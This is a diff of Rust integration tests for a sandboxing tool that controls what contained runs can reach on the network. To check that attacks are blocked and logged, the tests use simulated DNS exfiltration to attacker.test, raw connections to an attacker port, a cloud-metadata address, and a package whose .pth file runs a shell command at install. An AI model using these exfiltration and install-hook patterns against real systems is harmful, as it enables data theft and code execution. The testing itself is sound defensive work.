@@ -1,127 +1,10 @@
 //! What contained runs reach: real clients inside, hosts on loopback outside, with a server and without.
 
-use std::os::unix::fs::PermissionsExt as _;
-use std::path::PathBuf;
-use std::process::{Command, Output, Stdio};
+use std::process::{Command, Stdio};
 
 use crate::support::bulkhead::{DEFAULT_POLICY, with_setting};
-use crate::support::{Bulkhead, Internet, Place, Registry, developer, eventually};
-
-const GOOD: &str = "api.allowed.test";
-const BAD: &str = "evil.other.test";
-const HOSTS: [&str; 3] = [GOOD, "git.allowed.test", BAD];
-const REAL: &str = "sk-proj-REALREALREALREALREALREAL0123456789";
-
-/// A project with a policy of its own, before a little internet.
-struct World {
-    folder: tempfile::TempDir,
-    internet: Internet,
-    data: PathBuf,
-}
-
-impl World {
-    /// With these lines of policy.
-    fn new(policy: &str) -> Self {
-        let folder = tempfile::tempdir().expect("a folder");
-        let data = folder.path().join("data");
-        std::fs::create_dir(&data).expect("made");
-        std::fs::write(data.join("policy.toml"), policy).expect("written");
-        Self::at(folder, data)
-    }
-
-    /// Beside a server that has a policy already.
-    fn beside(bulkhead: &Bulkhead) -> Self {
-        Self::at(tempfile::tempdir().expect("a folder"), bulkhead.data())
-    }
-
-    fn at(folder: tempfile::TempDir, data: PathBuf) -> Self {
-        // A run that root starts belongs to nobody: what it is given must be reachable for them.
-        std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o755)).expect("set");
-        let internet = Internet::start();
-        std::fs::create_dir_all(folder.path().join("home/project/.venv/lib")).expect("made");
-        std::fs::write(folder.path().join("home/project/.venv/pyvenv.cfg"), "").expect("written");
-        std::fs::write(folder.path().join("bulkhead.toml"), internet.addresses(&HOSTS)).expect("written");
-        std::fs::write(folder.path().join("root.pem"), internet.root()).expect("written");
-        Self { folder, internet, data }
-    }
-
-    fn project(&self) -> PathBuf {
-        self.folder.path().join("home/project")
-    }
-
-    fn command(&self, words: &[&str]) -> Command {
-        let mut command = Command::new(env!("CARGO_BIN_EXE_bulkhead-under-test"));
-        command.arg("--data").arg(&self.data).arg("--config").arg(self.folder.path().join("bulkhead.toml"));
-        command.args(words).env_clear().env("PATH", "/usr/bin:/bin").env("USER", "dev");
-        command.env("HOME", self.folder.path().join("home"));
-        command.env("SSL_CERT_FILE", self.folder.path().join("root.pem"));
-        command.current_dir(self.project());
-        command
-    }
-
-    fn bulkhead(&self, words: &[&str]) -> Output {
-        self.command(words).output().expect("starts")
-    }
-
-    /// A script in a run. Standard error holds Bulkhead's own lines.
-    #[track_caller]
-    fn run(&self, script: &str) -> Ran {
-        let output = self.bulkhead(&["run", "--", "/bin/sh", "-c", script]);
-        let ran = Ran {
-            said: String::from_utf8_lossy(&output.stdout).into_owned(),
-            told: String::from_utf8_lossy(&output.stderr).into_owned(),
-        };
-        assert!(ran.told.contains("tier 1"), "not contained: {}", ran.told);
-        ran
-    }
-
-    fn secret(&self, name: &str, words: &[&str]) {
-        let file = self.folder.path().join("value");
-        std::fs::write(&file, REAL).expect("written");
-        let value = file.display().to_string();
-        let added = self.bulkhead(&[&["secret", "add", name, "--value-file", &value], words].concat());
-        assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
-        std::fs::remove_file(file).expect("removed");
-    }
-
-    /// What the question after a breach answers.
-    fn exposed(&self, question: &[&str]) -> String {
-        let answer = self.bulkhead(&[&["--format", "json", "exposure"], question].concat());
-        assert!(answer.status.code() != Some(2), "{}", String::from_utf8_lossy(&answer.stderr));
-        String::from_utf8_lossy(&answer.stdout).into_owned()
-    }
-
-    /// What the ledger says of the run.
-    fn shown(&self, ran: &Ran) -> Vec<serde_json::Value> {
-        let shown = self.bulkhead(&["--format", "json", "run", "show", &ran.id()]);
-        let shown: serde_json::Value = serde_json::from_slice(&shown.stdout)
-            .unwrap_or_else(|why| panic!("{why}: {}", String::from_utf8_lossy(&shown.stderr)));
-        shown["rows"].as_array().expect("rows").clone()
-    }
-}
-
-struct Ran {
-    said: String,
-    told: String,
-}
-
-impl Ran {
-    /// The id in the first line.
-    fn id(&self) -> String {
-        let id = self.told.split_whitespace().skip_while(|word| *word != "run").nth(1);
-        id.unwrap_or_else(|| panic!("no id: {}", self.told)).to_owned()
-    }
-
-    #[track_caller]
-    fn says(&self, what: &str) {
-        assert!(self.said.contains(what), "no `{what}` in\n{}\n{}", self.said, self.told);
-    }
-
-    #[track_caller]
-    fn told(&self, what: &str) {
-        assert!(self.told.contains(what), "no `{what}` in\n{}\n{}", self.told, self.said);
-    }
-}
+use crate::support::contained::{BAD, GOOD, REAL, World};
+use crate::support::{Place, Registry, Upload, Wheel, developer, eventually};
 
 fn allowed() -> String {
     format!("[settings]\nhosts = [{GOOD:?}, \"git.allowed.test\"]\n")
@@ -151,23 +34,12 @@ fn an_allowed_host_is_reached_and_another_is_refused_by_a_named_rule() {
     assert!(world.bulkhead(&["ledger", "verify"]).status.success());
 }
 
-/// Packages of a client's environment, copied into the project's own.
-fn install(world: &World, client: &str, packages: &[&str]) -> bool {
-    let from = developer::installed().join(client).join("lib/python3.11/site-packages");
-    let into = world.project().join(".venv/lib/python3.11/site-packages");
-    std::fs::create_dir_all(&into).expect("made");
-    packages.iter().all(|package| {
-        let copied = Command::new("cp").arg("-r").arg(from.join(package)).arg(&into).status().expect("cp starts");
-        copied.success()
-    })
-}
-
 #[test]
 fn every_client_reaches_the_allowed_host_and_is_refused_at_another() {
     let world = World::new(&allowed());
-    assert!(install(&world, "pip", &["pip"]), "cargo xtask clients");
+    assert!(world.install("pip", &["pip"]), "cargo xtask clients");
     // Optional: only where pdm could be installed.
-    let httpx = install(&world, "pdm", &["httpx", "httpcore", "h11", "anyio", "idna", "certifi"]);
+    let httpx = world.install("pdm", &["httpx", "httpcore", "h11", "anyio", "idna", "certifi"]);
     let urllib = "import sys, urllib.request as u\ntry: print(u.urlopen(sys.argv[1]).read().decode())\nexcept u.HTTPError as e: print(e.code, e.reason)";
     let requests = "import sys; from pip._vendor import requests as r; a = r.get(sys.argv[1]); print(a.reason, a.text)";
     let httpx_get = "import sys, httpx; a = httpx.get(sys.argv[1]); print(a.reason_phrase, a.text)";
@@ -315,6 +187,7 @@ def talk(to, *lines):
         return s.recv(100)
     except OSError as e: return e
 print("dns", socket.gethostbyname("c2VjcmV0.attacker.test"))
+for n in range(40): socket.gethostbyname(f"part{n}.attacker.test")
 print("raw", talk(("203.0.113.9", 4444), b"DATA\n"))
 socket.create_connection(("203.0.113.10", 5555), 5).close()
 s = socket.create_connection(("api.allowed.test", 2525), 5)
@@ -350,6 +223,11 @@ except OSError as e: print("udp", e)
         refused("169.254.169.254:80", "upstream-address") && refused("localhost:80", "upstream-address"),
         "{rows:#?}"
     );
+    // Names that were asked for and nothing else are counted; the names themselves may be what was to be carried out.
+    let end = rows.last().expect("an end");
+    assert_eq!(end["detail"]["names-only"], "41", "{end}");
+    assert!(end["detail"]["names-below"].as_str().is_some_and(|below| below.starts_with("attacker.test 41")), "{end}");
+    assert!(!format!("{rows:?}").contains("c2VjcmV0"));
     assert!(rows.iter().any(|row| row["about"] == "udp 203.0.113.9:9999" && row["effect"] == "deny"), "{rows:#?}");
 }
 
@@ -397,6 +275,32 @@ fn without_a_server_runs_share_the_ledger_and_outlive_each_other() {
         String::from_utf8_lossy(&first.stderr)
     );
     assert!(world.bulkhead(&["ledger", "verify"]).status.success());
+}
+
+#[test]
+fn a_server_that_starts_takes_over_from_a_run() {
+    let registry = Registry::start();
+    let place = Place::before(&registry).policy(&allowed());
+    let world = World::in_place(&place);
+    let wait = "while [ ! -e served ]; do sleep 0.05; done";
+    let script = format!("curl -sS https://{GOOD}/one; touch ready; {wait}; curl -sS https://{GOOD}/two; exit 7");
+    let mut running = world.command(&["run", "--", "/bin/sh", "-c", &script]);
+    let running = running.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("starts");
+    eventually(|| world.project().join("ready").exists().then_some(()));
+    let bulkhead = place.start();
+    std::fs::write(world.project().join("served"), "").expect("written");
+    let output = running.wait_with_output().expect("ends");
+    let (said, told) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    assert_eq!(output.status.code(), Some(7), "{said}\n{told}");
+    assert!(said.contains("ECHO GET /one") && said.contains("ECHO GET /two"), "{said}\n{told}");
+    // Beginning and end are in one ledger, although one process wrote the first and another the last.
+    let entries = bulkhead.entries();
+    let runs: Vec<_> = entries.iter().filter(|entry| entry["action"] == "run").collect();
+    assert_eq!(runs.len(), 2, "{runs:#?}");
+    assert_eq!(runs[1]["detail"]["ended"], "code 7");
+    // A server makes way for nobody.
+    let refused = bulkhead.place().refuses_to_start();
+    assert!(refused.all().contains("another bulkhead uses"), "{refused}");
 }
 
 #[test]
@@ -448,7 +352,7 @@ fn a_rule_sees_requests_and_a_changed_policy_holds_for_what_runs_already() {
 #[test]
 fn what_installs_packages_reaches_its_index_and_no_other() {
     let world = World::new(&allowed());
-    assert!(install(&world, "pip", &["pip"]), "cargo xtask clients");
+    assert!(world.install("pip", &["pip"]), "cargo xtask clients");
     let uv = developer::installed().join("uv/bin");
     let profile = world.folder.path().join("profile.toml");
     std::fs::write(&profile, format!("name = \"ci\"\n[files]\nread = [{:?}]\n", uv.canonicalize().expect("uv")))
@@ -517,4 +421,40 @@ fn a_killed_supervisor_takes_its_run_along_and_leaves_the_ledger_whole() {
         (!world.project().join("alive").exists()).then_some(())
     });
     assert!(world.bulkhead(&["ledger", "verify"]).status.success());
+}
+
+#[test]
+fn a_callers_proxy_is_not_the_runs() {
+    let world = World::new(&allowed());
+    let script = format!("echo $https_proxy $HTTP_PROXY; curl -sS https://{GOOD}/hello; curl -sS http://{GOOD}/plain");
+    let mut command = world.command(&["run", "--", "/bin/sh", "-c", &script]);
+    command.env("https_proxy", "http://proxy.corp.test:8080").env("HTTP_PROXY", "http://proxy.corp.test:8080");
+    let output = command.output().expect("starts");
+    let said = String::from_utf8_lossy(&output.stdout);
+    assert!(said.starts_with("http://127.0.0.1:3128 http://127.0.0.1:3128\n"), "{said}");
+    assert!(said.contains("ECHO GET /hello") && said.contains("ECHO GET /plain"), "{said}");
+}
+
+#[test]
+fn a_run_installs_through_the_intake_gate_and_gets_no_poisoned_release() {
+    let registry = Registry::start();
+    registry.publish(Upload::from(Wheel::new("demo", "1.0")).days_old(90));
+    let poisoned = Wheel::new("poisoned", "1.0").file("poisoned_init.pth", "import os; os.system('true')\n");
+    registry.publish(Upload::from(poisoned).days_old(90));
+    // The server is known to runs, and to itself, by a name.
+    let place = Place::before(&registry).server("url = \"http://index.bulkhead.test/\"");
+    let bulkhead = place.policy("[settings]\nhosts = [\"index.bulkhead.test\"]\n").start();
+    let world = World::beside(&bulkhead);
+    let stands = format!("[egress]\naddresses = [\"index.bulkhead.test:80={}\"]\n", bulkhead.address());
+    std::fs::write(world.folder.path().join("bulkhead.toml"), stands).expect("written");
+    assert!(world.install("pip", &["pip"]), "cargo xtask clients");
+    let pip = "PYTHONPATH=.venv/lib/python3.11/site-packages python3 -m pip download --no-deps --retries 0 \
+               --trusted-host index.bulkhead.test --index-url http://index.bulkhead.test/pypi/simple/";
+    let ran = world.run(&format!("{pip} demo 2>&1; {pip} poisoned 2>&1; ls *.whl"));
+    ran.says("demo-1.0-py3-none-any.whl");
+    ran.says("(intake-executable-pth)");
+    assert!(!world.project().join("poisoned-1.0-py3-none-any.whl").exists(), "{}", ran.said);
+    let entries = bulkhead.entries();
+    let refused = entries.iter().find(|entry| entry["effect"] == "deny" && entry["gate"] == "intake");
+    assert!(refused.is_some_and(|entry| entry.to_string().contains("poisoned")), "{entries:#?}");
 }
